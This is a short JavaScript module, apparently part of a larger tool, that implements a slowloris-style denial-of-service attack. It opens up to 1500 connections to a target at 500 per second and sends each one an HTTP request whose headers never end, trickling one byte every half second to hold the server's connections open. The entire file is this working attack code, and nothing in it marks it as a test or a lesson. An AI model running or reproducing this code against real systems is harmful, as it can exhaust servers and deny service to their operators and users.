// Requests whose headers come byte by byte and never end.
import { keep } from './connections.mjs';

export function begin(target) {
  return keep(target, { count: 1500, perSecond: 500 }, (socket) => {
    socket.write('GET /tunnel HTTP/1.1\r\nHost: gateway\r\nX: ');
    const timer = setInterval(() => socket.write('a'), 500);
    socket.on('close', () => clearInterval(timer));
  });
}
